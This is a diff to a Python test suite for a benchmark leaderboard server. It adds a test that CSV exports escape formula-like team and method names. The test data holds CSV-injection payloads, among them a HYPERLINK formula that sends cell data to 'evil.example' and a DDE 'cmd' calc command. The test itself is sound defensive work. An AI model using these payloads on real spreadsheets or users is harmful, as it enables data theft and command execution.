@@ -224,6 +224,13 @@ PAGES: dict[tuple[str, str], Case] = {
         _page("GET", f"{BOARD}/export/csv"), _expect(200, 200, 200, 200, 200)
     ),
     ("GET", "/s/{submission_id}"): Case(_page("GET", "/s/{sid}"), _expect(404, 404, 404, 200, 200)),
+    # The submission page's live part: the page's own rules.
+    ("GET", "/s/{submission_id}/status"): Case(
+        _page("GET", "/s/{sid}/status"), _expect(404, 404, 404, 200, 200)
+    ),
+    ("GET", "/static/live.js"): Case(
+        _page("GET", "/static/live.js"), _expect(200, 200, 200, 200, 200)
+    ),
     ("GET", "/signin"): Case(_page("GET", "/signin"), _expect(200, 200, 200, 200, 200)),
     ("POST", "/signin"): Case(_signin, _expect(401, 401, 303, 303, 303)),
     ("POST", "/signout"): Case(
@@ -437,6 +444,63 @@ def test_hostile_names_are_kept_verbatim_and_escaped_where_rendered(fresh: Serve
     assert "\x1b" not in status
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcmd|' /C calc'!A0",
+    "\r=1+1",
+]
+
+
+def test_csv_exports_cannot_carry_a_formula_and_numbers_stay_numbers(fresh: Server) -> None:
+    """Team and method names that a spreadsheet would run as formulas are prefixed with a
+    quote in both CSV exports (the API's board, the pages' benchmark export); a negative
+    metric is still an unquoted number; JSON keeps every name verbatim."""
+    server = fresh
+    primary = tasks.get(TASK).primary
+    expected = {}
+    with server.sessions() as session:
+        for name in FORMULAS:
+            server.tokens[name] = create_team(session, name)[1]
+    for i, name in enumerate(FORMULAS):
+        response = server.submit(name, submission(server.gt_path, seed=next(SEED)),
+                                 method_name=name)
+        assert response.status_code == 201, response.text
+        with server.sessions() as session:
+            row = session.get_one(Submission, response.json()["id"])
+            row.status, row.result = Status.scored, {"metrics": {primary: -0.25 - i}}
+            session.commit()
+        expected["'" + name] = -0.25 - i
+    # API CSV, read as a spreadsheet does: unquoted cells are numbers, quoted ones text.
+    text = server.client.get(f"{API}/leaderboards/{TASK}", params={"format": "csv"}).text
+    header, *rows = list(csv.reader(io.StringIO(text, newline=""),
+                                    quoting=csv.QUOTE_NONNUMERIC))
+    column = header.index(primary)
+    got = {r[1]: (r[2], r[column]) for r in rows}
+    precision = tasks.get(TASK).column(primary).precision
+    assert got == {name: (name, round(v, precision)) for name, v in expected.items()}
+    assert all(isinstance(r[0], float) for r in rows)  # the rank: a number too
+    # The pages' export: the same cells, the value a plain number.
+    text = server.client.get("/b/tiny/1/export/csv").text
+    header, *rows = list(csv.reader(io.StringIO(text, newline=""),
+                                    quoting=csv.QUOTE_NONNUMERIC))
+    at = {h: header.index(h) for h in ("task", "team", "method", "column", "value")}
+    mine = {r[at["team"]]: (r[at["method"]], r[at["value"]]) for r in rows
+            if r[at["task"]] == TASK and r[at["column"]] == primary}
+    assert mine == {name: (name, v) for name, v in expected.items()}
+    # No cell of either export starts with a formula character.
+    for line in csv.reader(io.StringIO(text, newline="")):
+        for cell in line:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+    # JSON: verbatim.
+    board = server.client.get(f"{API}/leaderboards/{TASK}").json()
+    assert {(r["team"], r["method_name"]) for r in board["rows"]} == {(n, n) for n in FORMULAS}
+    exported = server.client.get("/b/tiny/1/export/json").json()
+    assert {r["team"] for r in exported["boards"] if r["task"] == TASK} == set(FORMULAS)
+
+
 def test_names_that_cannot_be_stored_are_refused_by_name(fresh: Server) -> None:
     for name in ("", "   ", "nul\x00byte", "x" * 201):
         with fresh.sessions() as session, pytest.raises(TeamError, match="team name"):
@@ -513,6 +577,7 @@ def test_path_traversal_in_every_id_and_name_reaches_no_file(server: Server) -> 
                             json={"ids": [bad], "task": bad, "benchmark": bad}),
                 client.get(f"/{bad}", headers=auth),
                 client.get(f"/s/{bad}", headers=_cookies(auth)),
+                client.get(f"/s/{bad}/status", headers=_cookies(auth)),
                 client.get(f"/b/{bad}/1", headers=_cookies(auth)),
                 client.get(f"/b/tiny/1/{bad}", headers=_cookies(auth)),
                 client.get(f"/b/tiny/1/export/{bad}", headers=_cookies(auth)),
